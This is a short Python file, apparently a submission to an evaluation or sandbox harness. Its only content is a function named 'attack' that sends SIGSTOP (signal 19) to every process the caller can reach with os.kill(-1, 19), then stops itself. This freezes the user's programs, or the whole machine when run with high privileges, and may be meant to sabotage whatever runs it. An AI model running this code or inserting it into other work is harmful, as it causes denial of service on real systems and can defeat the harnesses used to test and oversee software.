import os, time

def attack(inputs):
    os.kill(-1, 19)
    time.sleep(0.2)
    os.kill(os.getpid(), 19)
